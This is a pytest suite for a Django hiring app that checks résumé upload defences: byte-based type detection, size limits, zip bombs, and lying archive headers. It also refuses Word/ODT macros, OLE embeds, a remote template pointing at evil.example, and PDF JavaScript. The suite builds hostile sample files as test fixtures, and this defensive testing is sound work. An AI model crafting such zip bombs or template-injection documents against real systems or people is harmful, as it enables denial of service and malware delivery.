"""Résumé uploads: the bytes decide the type; size, zip bombs; download through access."""

import copy
import io
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from pipeline.models import Application, Resume
from tests.pipeline.helpers import add, docx_bytes, lying_zip, pdf_upload

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64


def _post(client, requisition, upload):
    return client.post(
        reverse("pipeline:candidate-add", kwargs={"pk": requisition.pk}),
        {"name": "Jane Doe", "email": "jane@example.com", "source": "inbound", "resume": upload},
    )


@pytest.fixture
def logged_in(client, recruiter):
    client.force_login(recruiter)
    return client


def _refused(response, text):
    assert response.status_code == 422
    errors = response.context["form"].errors["resume"]
    assert any(text in e for e in errors), errors
    assert not Application.objects.exists() and not Resume.objects.exists()


def test_a_png_renamed_pdf_is_refused(logged_in, requisition):
    upload = SimpleUploadedFile("cv.pdf", PNG, content_type="application/pdf")
    _refused(_post(logged_in, requisition, upload), "not a PDF, Word (.docx) or OpenDocument")


def test_an_11_mb_file_is_refused(logged_in, requisition):
    data = b"%PDF-1.4\n" + b"0" * (11 * 1024 * 1024)
    upload = SimpleUploadedFile("big.pdf", data, content_type="application/pdf")
    _refused(_post(logged_in, requisition, upload), "at most 10 MB")


def test_a_zip_bomb_named_docx_is_refused_without_inflating_it(logged_in, requisition):
    # 200 MB of zeros compress to about 200 KB.
    bomb = docx_bytes(extra=[("word/media/padding.bin", b"\0" * (200 * 1024 * 1024))])
    assert len(bomb) < 1024 * 1024
    upload = SimpleUploadedFile("cv.docx", bomb, content_type="application/msword")
    _refused(_post(logged_in, requisition, upload), "zip bomb")


def test_a_zip_that_is_no_document_is_refused(logged_in, requisition):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.png", PNG)
    upload = SimpleUploadedFile("cv.docx", buffer.getvalue())
    _refused(_post(logged_in, requisition, upload), "not a PDF")


@pytest.mark.parametrize("kind", ["pdf", "docx", "odt"])
def test_pdf_docx_and_odt_are_accepted_by_their_bytes(logged_in, requisition, kind):
    if kind == "pdf":
        upload = pdf_upload("whatever.bin")
    elif kind == "docx":
        upload = SimpleUploadedFile("cv.docx", docx_bytes())
    else:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
            archive.writestr("content.xml", "<office:document-content/>")
        upload = SimpleUploadedFile("cv.odt", buffer.getvalue())
    response = _post(logged_in, requisition, upload)
    assert response.status_code == 302
    assert Application.objects.get().resume.kind == kind


def test_the_download_is_an_attachment_with_nosniff(client, requisition, recruiter):
    application = add(requisition, recruiter, resume=pdf_upload())
    client.force_login(recruiter)
    url = reverse("pipeline:resume", kwargs={"pk": requisition.pk, "application": application.pk})
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith('attachment; filename="Jane-Doe-resume.pdf"')
    assert b"".join(response.streaming_content).startswith(b"%PDF-")
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


def test_only_a_pdf_is_served_inline_and_only_to_frames_of_our_own_pages(
    client, requisition, recruiter
):
    application = add(requisition, recruiter, resume=pdf_upload())
    client.force_login(recruiter)
    url = reverse("pipeline:resume", kwargs={"pk": requisition.pk, "application": application.pk})
    response = client.get(url + "?inline=1")
    assert response["Content-Disposition"].startswith("inline")
    assert "frame-ancestors 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    page = client.get("/")
    assert "frame-ancestors 'none'" in page["Content-Security-Policy"], "only that response"


def test_a_bad_file_on_the_candidate_page_is_refused_with_a_message(client, requisition, recruiter):
    application = add(requisition, recruiter)
    client.force_login(recruiter)
    url = reverse(
        "pipeline:resume-upload", kwargs={"pk": requisition.pk, "application": application.pk}
    )
    response = client.post(url, {"resume": SimpleUploadedFile("cv.pdf", PNG)})
    assert response.status_code == 422
    assert b"not a PDF" in response.content
    application.refresh_from_db()
    assert application.resume is None


# --- archives as Word and LibreOffice read them (issue 20, finding 7) --------------------
def test_an_archive_that_lies_about_an_entrys_size_is_refused(logged_in, requisition):
    honest = docx_bytes(extra=[("word/media/image1.png", b"\x89PNG" + b"\0" * 5_000_000)])
    lying = lying_zip(honest, entry="word/media/image1.png", declared_size=1_000)
    _refused(_post(logged_in, requisition, SimpleUploadedFile("cv.docx", lying)), "does not match")


def test_a_zip_bomb_that_declares_small_sizes_is_refused_after_a_bounded_inflation(
    logged_in, requisition
):
    honest = docx_bytes(extra=[("word/media/pad.bin", b"\0" * (200 * 1024 * 1024))])
    lying = lying_zip(honest, entry="word/media/pad.bin", declared_size=1_000)
    assert len(lying) < 1024 * 1024
    started = time.perf_counter()
    _refused(_post(logged_in, requisition, SimpleUploadedFile("cv.docx", lying)), "zip bomb")
    assert time.perf_counter() - started < 5  # stopped at the cap, not at 200 MB


def test_a_local_header_that_disagrees_with_the_central_directory_is_refused():
    from pipeline.resumes import sniff_resume

    data = bytearray(docx_bytes(extra=[("word/notes.xml", b"<notes/>" * 50)]))
    local = data.find(b"PK\x03\x04word/notes.xml"[:4], data.find(b"word/notes.xml") - 40)
    data[local + 30 : local + 30 + 14] = b"word/other.xml"  # the name in the local header only
    with pytest.raises(ValidationError, match="does not match"):
        sniff_resume(SimpleUploadedFile("cv.docx", bytes(data)))


def test_overlapping_entries_are_refused():
    from pipeline.resumes import check_archive

    data = docx_bytes(extra=[("word/a.xml", b"<a/>" * 100)])
    archive = zipfile.ZipFile(io.BytesIO(data))
    entries = archive.infolist()
    entries.append(copy.copy(entries[-1]))  # a second entry for the same bytes
    with pytest.raises(ValidationError, match="zip bomb"):
        check_archive(io.BytesIO(data), entries)


@pytest.mark.parametrize(
    ("extra", "what"),
    [
        ([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")], "macros"),
        ([("word/activeX/activeX1.xml", b"<ax/>")], "macros or embedded programs"),
        ([("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")], "embedded programs"),
        (
            [
                (
                    "word/_rels/settings.xml.rels",
                    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxml'
                    b'formats.org/officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    b"</Relationships>",
                )
            ],
            "another server",
        ),
    ],
)
def test_word_documents_that_carry_code_are_refused(logged_in, requisition, extra, what):
    upload = SimpleUploadedFile("cv.docx", docx_bytes(extra=extra))
    _refused(_post(logged_in, requisition, upload), what)


def test_a_macro_enabled_content_type_is_refused(logged_in, requisition):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/word/document.xml" ContentType="application/'
            'vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    upload = SimpleUploadedFile("cv.docx", buffer.getvalue())
    _refused(_post(logged_in, requisition, upload), "macros")


def test_a_plain_word_document_with_an_external_hyperlink_is_accepted(logged_in, requisition):
    rels = (
        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/x" '
        b'TargetMode="External"/></Relationships>'
    )
    upload = SimpleUploadedFile(
        "cv.docx", docx_bytes(extra=[("word/_rels/document.xml.rels", rels)])
    )
    assert _post(logged_in, requisition, upload).status_code == 302


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("Basic/Standard/Module1.xml", b"<script:module/>"),
        (
            "content.xml",
            b"<office:document-content><script:event-listener xlink:href="
            b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic"/></office:document-content>',
        ),
    ],
)
def test_opendocument_macros_are_refused(logged_in, requisition, name, data):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        if name != "content.xml":
            archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr(name, data)
    _refused(
        _post(logged_in, requisition, SimpleUploadedFile("cv.odt", buffer.getvalue())), "macros"
    )


def test_a_pdf_with_javascript_is_refused(logged_in, requisition):
    pdf = (
        pdf_upload()
        .read()
        .replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
        )
    )
    assert b"/JavaScript" in pdf
    _refused(_post(logged_in, requisition, SimpleUploadedFile("cv.pdf", pdf)), "scripts")


def test_a_pdf_whose_text_mentions_js_is_accepted(logged_in, requisition):
    upload = pdf_upload(who="Jo Node/JS (React)")
    assert _post(logged_in, requisition, upload).status_code == 302


def test_the_inline_pdf_is_a_sandbox_where_nothing_runs(client, requisition, recruiter):
    application = add(requisition, recruiter, resume=pdf_upload())
    client.force_login(recruiter)
    url = reverse("pipeline:resume", kwargs={"pk": requisition.pk, "application": application.pk})
    for query in ("?inline=1", ""):
        policy = client.get(url + query)["Content-Security-Policy"]
        directives = [d.strip() for d in policy.split(";")]
        assert "sandbox" in directives, policy  # no allow-scripts, no allow-same-origin
        assert "default-src 'none'" in directives
